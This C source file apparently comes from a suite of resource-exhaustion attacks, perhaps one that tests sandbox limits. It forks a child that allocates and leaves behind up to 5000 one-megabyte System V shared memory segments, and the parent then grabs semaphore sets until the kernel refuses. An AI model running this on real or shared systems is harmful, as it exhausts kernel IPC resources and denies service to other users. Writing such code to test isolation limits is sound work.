/* Uses up System V shared memory and semaphores, and leaves them (sysvipc(7), kernel.shmmni). */
#include "common/attack.h"

#include <sys/sem.h>
#include <sys/shm.h>

static void attempt(void) {
    int segments = 0, semaphores = 0;
    pid_t child = fork();
    if (child == 0) {
        for (; segments < 5000; segments++) {
            int id = shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0600);
            char *memory = id < 0 ? (char *)-1 : shmat(id, NULL, 0);
            if (memory == (char *)-1) {
                break;
            }
            memset(memory, 1, 1 << 20);
        }
        printf("%d segments\n", segments);
        fflush(stdout);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    while (semaphores < 40000 && semget(IPC_PRIVATE, 250, IPC_CREAT | 0600) >= 0) {
        semaphores++;
    }
    printf("%d sets of semaphores: %s\n", semaphores, strerror(errno));
    hold();
}
